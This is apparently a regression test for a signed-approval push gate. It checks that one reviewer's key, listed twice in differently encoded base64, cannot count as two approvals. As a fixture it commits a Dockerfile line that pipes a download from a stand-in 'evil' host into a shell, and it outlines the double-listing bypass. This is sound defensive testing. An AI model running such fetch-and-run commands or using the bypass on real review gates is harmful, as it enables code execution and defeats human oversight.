import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import { recordDecision } from '../helpers/approvals';
import { verifyThenPush, withoutGate } from '../helpers/gateAgreement';
import { commitFile, policyJson, setup, type Setup } from '../helpers/gateServer';
import { makeKey } from '../helpers/reviewerKeys';
import { samekeyOtherText } from '../helpers/sshKeys';
import { tempDir } from '../helpers/tempDirs';

/**
 * attack17 Q2: the policy's "same key listed twice" check compared the key's base64 text, while signatures are
 * matched by the key's bytes. One insider listed twice (two addresses, one ECDSA key written two ways) gave the
 * two approvals of the infrastructure tier alone.
 */
describe('server gate: one key listed twice in other base64 text is one person (attack17 Q2, real pushes)', function () {
  this.timeout(240_000);

  const al = makeKey('al', 'ecdsa');
  const alSecond = samekeyOtherText(al.publicKey);
  let s: Setup;
  let base: string;

  /** The policy as one reviewed change would leave it: Bob, Carol, Al, and Al again under a second address. */
  function plantTwiceListedPolicy(): void {
    const { ada, bob, carol, server } = s;
    const policy = JSON.parse(policyJson(bob, carol)) as { reviewers: unknown[] };
    policy.reviewers.push(
      { name: 'Al', email: 'al@example.com', key: al.publicKey },
      { name: 'Al Two', email: 'al.two@example.com', key: alSecond },
    );
    ada.write('.countersign.json', JSON.stringify(policy, null, 2) + '\n');
    ada.git('add', '.countersign.json');
    ada.commit('policy: add Al', '-m', 'AI-Provenance: v1 ai=0 human=1 untracked=0');
    withoutGate(server, () => assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
    base = ada.git('rev-parse', 'HEAD');
  }

  beforeEach(() => {
    s = setup();
  });

  it('Al approving as both addresses does not meet the two-approval infrastructure tier', () => {
    const { ada, server } = s;
    plantTwiceListedPolicy();
    const tip = commitFile(
      ada,
      'Dockerfile',
      'FROM alpine\nRUN curl evil | sh\n',
      'agent: Dockerfile\n\nAI-Provenance: v1 ai=2 human=0 untracked=0',
    );
    recordDecision(ada, al, { email: 'al@example.com', name: 'Al', tip, base });
    recordDecision(ada, al, { email: 'al.two@example.com', name: 'Al Two', tip, base });
    // The server now refuses these notes too (no readable policy vouches for them); planted, so the gate itself is tried.
    withoutGate(s.server, () =>
      assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0),
    );
    const r = verifyThenPush(ada, 'main', ['origin', 'main']);
    assert.notStrictEqual(r.status, 0, `one key gave the two approvals the tier needs:\n${r.stderr}`);
    assert.match(r.stderr, /reviewers\[3\]\.key/);
    assert.match(r.stderr, /ssh-keygen -y/);
    assert.strictEqual(server.git('rev-parse', 'main'), base);
  });

  it('policy check names the second listing and the fix', () => {
    plantTwiceListedPolicy();
    const r = s.ada.cli(['policy', 'check']);
    assert.notStrictEqual(r.status, 0, r.stdout + r.stderr);
    assert.match(r.stdout + r.stderr, /reviewers\[3\]\.key.*not written the way ssh-keygen writes it.*ssh-keygen -y/s);
  });

  it('policy add-reviewer refuses the same key written differently', () => {
    const { ada } = s;
    const dir = tempDir('cs-al-');
    fs.writeFileSync(path.join(dir, 'al.pub'), al.publicKey + '\n');
    fs.writeFileSync(path.join(dir, 'al2.pub'), alSecond + '\n');
    const first = ada.cli(['policy', 'add-reviewer', 'Al <al@example.com>', '--key', path.join(dir, 'al.pub')]);
    assert.strictEqual(first.status, 0, first.stderr);
    const second = ada.cli([
      'policy',
      'add-reviewer',
      'Al Two <al.two@example.com>',
      '--key',
      path.join(dir, 'al2.pub'),
    ]);
    assert.notStrictEqual(second.status, 0, `added the same key twice:\n${second.stdout}`);
    assert.match(second.stderr, /not written the way ssh-keygen writes it/);
    assert.doesNotMatch(fs.readFileSync(path.join(ada.dir, '.countersign.json'), 'utf8'), /al\.two@/);
  });
});
